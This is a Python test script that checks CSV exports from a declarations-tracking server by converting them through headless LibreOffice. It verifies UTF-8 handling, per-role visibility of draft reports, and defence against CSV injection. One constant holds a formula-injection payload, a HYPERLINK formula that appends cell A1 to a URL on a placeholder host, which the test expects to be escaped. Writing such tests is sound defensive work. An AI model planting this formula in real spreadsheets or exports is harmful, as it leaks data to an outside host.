#!/usr/bin/env python3
"""Opens the CSV exports of a running accord-server in LibreOffice Calc, a reader
that shares no code with Accord: each export (implementation matrix, endorsement
matrix, delegation list) is converted to .xlsx with `soffice --headless
--convert-to xlsx` and read back cell by cell with python3-openpyxl. Checks that
UTF-8 text arrives intact (the BOM), that a commitment text starting with '=' is
text and never a formula (CSV injection), and that an export keeps its caller's
read rules (a country's draft report shows in its own coordinator's export only).

usage: check_csv_export.py --server BUILD/.../accord-server --cli BUILD/plugin/cli/accord"""
import argparse
import os
import shutil
import subprocess
import sys
import tempfile

import openpyxl

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from check_openapi_schemas import Server  # noqa: E402

DECL = "/api/v1/declarations/skopje-joint-declaration"
HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click") Скопје'


def to_sheets(exports, work):
    """Each CSV as LibreOffice reads it (one soffice run for all, as its start is
    the slow part): name -> rows of (value, openpyxl data type) of the first sheet."""
    paths = []
    for name, data in exports.items():
        paths.append(os.path.join(work, name + ".csv"))
        with open(paths[-1], "wb") as f:
            f.write(data)
    profile = "file://" + os.path.join(work, "lo-profile")
    # 44: ',' separates, 34: '"' quotes, 76: UTF-8, 1: from the first line.
    subprocess.run(["soffice", f"-env:UserInstallation={profile}", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", work] + paths, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=240)
    out = {}
    for name in exports:
        sheet = openpyxl.load_workbook(os.path.join(work, name + ".xlsx")).worksheets[0]
        out[name] = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", required=True)
    ap.add_argument("--cli", required=True)
    args = ap.parse_args()
    failures = []

    def check(ok, message):
        if not ok:
            failures.append(message)
        return ok

    server = Server(args.server, args.cli)
    work = tempfile.mkdtemp(prefix="accord-csv-")
    try:
        path = "/api/v1/commitments/cm-common-indicators"
        status, headers, _ = server.call("GET", path)
        status, _, body = server.call("PATCH", path, {"text": HOSTILE}, {"If-Match": headers["ETag"]})
        check(status == 200, f"PATCH the commitment text: {status} {body[:200]}")

        status, headers, body = server.call("GET", DECL + "/status/implementation?format=csv")
        check(status == 200, f"implementation CSV: {status} {body[:200]}")
        check(headers.get("Content-Type", "").startswith("text/csv"), f"content type {headers.get('Content-Type')}")
        check("attachment" in headers.get("Content-Disposition", ""), "not an attachment")
        check(body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM")
        exports = {"implementation": body}
        # RS's report on cm-transnational-referral is a draft: RS's own.
        readers = ("coordinator.rs", "coordinator.mk", "monitor", "secretariat")
        for actor in readers:
            status, _, exports["implementation-" + actor] = server.call(
                "GET", DECL + "/status/implementation?format=csv", actor=actor)
            check(status == 200, f"as {actor}: {status}")
        status, _, exports["endorsements"] = server.call("GET", DECL + "/status/endorsements?format=csv",
                                                         actor="viewer")
        check(status == 200, f"endorsement CSV: {status}")
        status, _, exports["delegations"] = server.call("GET", "/api/v1/conferences/skopje-2016/delegations?format=csv")
        check(status == 200, f"delegation CSV: {status}")
        status, _, _ = server.call("GET", DECL + "/status/implementation?format=csv&country=MK")
        check(status == 400, f"a JSON-only filter with csv: {status}")

        sheets = to_sheets(exports, work)
        rows = sheets["implementation"]
        header = [v for v, _ in rows[0]]
        check(header[:5] == ["commitment", "text", "deadline", "country", "name"], f"header {header}")
        col = {name: i for i, name in enumerate(header)}
        hostile = [r for r in rows[1:] if r[0][0] == "cm-common-indicators"]
        check(len(hostile) == 6, f"{len(hostile)} rows for cm-common-indicators, 6 countries expected")
        for r in hostile:
            value, kind = r[col["text"]]
            check(kind == "s", f"the '=' text became a cell of type {kind}: {value!r}")
            check(value == "'" + HOSTILE, f"text cell reads {value!r}")
        mk = [r for r in hostile if r[col["country"]][0] == "MK"]
        check(mk and mk[0][col["status"]][0] == "in_progress", f"MK status {mk and mk[0][col['status']]}")
        check(mk and mk[0][col["milestones"]] == (3, "n"), f"milestones cell {mk and mk[0][col['milestones']]}")

        def latest_report(actor):
            for r in sheets["implementation-" + actor][1:]:
                if r[0][0] == "cm-transnational-referral" and r[col["country"]][0] == "RS":
                    return r[col["latest report"]][0]
            return "missing"

        check(latest_report("coordinator.rs") == "draft", "RS's own export lacks its draft report")
        for actor in readers[1:]:
            check(latest_report(actor) != "draft", f"{actor}'s export shows RS's draft report")

        rows = sheets["endorsements"]
        check([v for v, _ in rows[0]][:3] == ["country", "name", "status"], f"header {rows[0]}")
        names = {r[0][0]: r[1][0] for r in rows[1:]}
        check(names.get("XK") == "Kosovo*", f"XK reads {names.get('XK')!r}")

        rows = sheets["delegations"]
        check(len(rows) > 1 and rows[0][0][0] == "country", f"delegations header {rows[:1]}")
        check(any(r[3][0] for r in rows[1:]), "no delegate has a name")
    finally:
        server.stop()
        shutil.rmtree(work, ignore_errors=True)
    for f in failures:
        print("FAIL:", f)
    print(f"csv export: {len(failures)} failures")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
